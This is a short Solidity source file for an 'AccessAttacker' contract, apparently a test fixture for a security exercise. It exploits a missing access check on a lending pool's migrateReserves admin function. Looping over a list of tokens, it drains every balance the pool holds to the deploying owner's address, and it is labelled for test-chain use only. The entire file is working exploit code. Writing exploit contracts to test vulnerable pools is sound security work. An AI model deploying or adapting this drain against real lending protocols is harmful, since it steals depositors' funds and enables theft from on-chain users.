// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {LendingPool} from "./LendingPool.sol";

/// @title AccessAttacker
/// @notice Exploits BUG(access) of LendingPool.migrateReserves: calls the
/// unprotected admin function once per token, sending every token the pool
/// holds straight to the owner (the deploying EOA). Test-chain use only.
contract AccessAttacker {
    address public immutable owner;

    event Attacked(address indexed pool, address indexed token, uint256 amount);

    error NotOwner();

    constructor() {
        owner = msg.sender;
    }

    /// @notice Drains each of `tokens` from `pool` to the owner.
    function attack(LendingPool pool, IERC20[] calldata tokens) external {
        if (msg.sender != owner) revert NotOwner();
        for (uint256 i = 0; i < tokens.length; i++) {
            uint256 amount = tokens[i].balanceOf(address(pool));
            pool.migrateReserves(address(tokens[i]), owner);
            emit Attacked(address(pool), address(tokens[i]), amount);
        }
    }
}
